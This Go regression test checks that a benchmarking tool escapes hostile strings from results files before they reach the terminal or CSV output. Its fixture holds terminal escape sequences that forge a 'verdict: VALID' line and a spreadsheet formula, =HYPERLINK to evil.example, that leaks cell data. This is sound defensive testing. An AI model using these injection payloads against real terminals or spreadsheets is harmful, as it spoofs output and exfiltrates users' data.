package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/tradebench/tradebench/report"
)

// hostileResults writes a results file whose strings are an attacker's: a label and a reason
// with terminal escape sequences and a forged line, a transaction named as a spreadsheet formula.
func hostileResults(t *testing.T, dir, name string) string {
	t.Helper()
	r := report.Results{SchemaVersion: report.SchemaVersion, Tool: "tradebench", Workload: "drive", Scenario: "x",
		Label:        "evil\x1b]0;pwned\x07\x1b[2J\x1b[H\nverdict: VALID",
		Transactions: []report.Transaction{{Name: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Count: 1, Pass: 1}},
		Series:       []report.SeriesPoint{{Second: 0, Phase: "@SUM(1+1)"}},
		Validity: &report.Validity{Verdict: "invalid", Reasons: []report.RuleResult{{Rule: "errors", Outcome: report.RuleFail,
			Detail: "\x1b[1A\x1b[2Kverdict: VALID\r\x9b31m"}}}}
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestUntrustedResultsReachTerminalAndCSVEscaped is finding 9 of issue 35: labels and reasons
// from a results file reached the terminal raw in 'report compare' (an escape set the title,
// cleared the screen, printed a fake "verdict: VALID"), and --format csv wrote =HYPERLINK(…)
// cells unescaped. Mutants: terminal-escape-off (compare prints the label raw) and
// csv-formula-off (CSVCell returns its input).
func TestUntrustedResultsReachTerminalAndCSVEscaped(t *testing.T) {
	dir := t.TempDir()
	a, b := hostileResults(t, dir, "a.json"), hostileResults(t, dir, "b.json")
	code, stdout, stderr := capture(t, "report", "compare", a, b, "--out", filepath.Join(dir, "c.html"))
	if code != exitOK {
		t.Fatalf("compare: exit %d\n%s", code, stderr)
	}
	out := stdout + stderr
	if i := strings.IndexFunc(out, func(r rune) bool { return (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r < 0xa0) }); i >= 0 {
		t.Errorf("a control character from the file reached the terminal at %d: %q", i, out)
	}
	if regexp.MustCompile(`(?m)^verdict: VALID`).MatchString(out) {
		t.Errorf("the file forged a line of its own:\n%s", out)
	}
	if !strings.Contains(out, `evil\x1b]0;pwned\a`) {
		t.Errorf("the label is not shown escaped:\n%q", out)
	}

	code, _, stderr = capture(t, "report", a, "--format", "csv", "--out", filepath.Join(dir, "x"))
	if code != exitOK {
		t.Fatalf("csv: exit %d\n%s", code, stderr)
	}
	for _, f := range []string{"x.transactions.csv", "x.series.csv"} {
		csv, err := os.ReadFile(filepath.Join(dir, f))
		if err != nil {
			t.Fatal(err)
		}
		if regexp.MustCompile(`(?m)(^|,)"?[=+\-@]`).Match(csv) {
			t.Errorf("%s: a cell starts with a formula character:\n%s", f, csv)
		}
		if !strings.Contains(string(csv), `'=HYPERLINK`) && !strings.Contains(string(csv), `'@SUM`) {
			t.Errorf("%s: the formula cell is not prefixed with a quote:\n%s", f, csv)
		}
	}
}
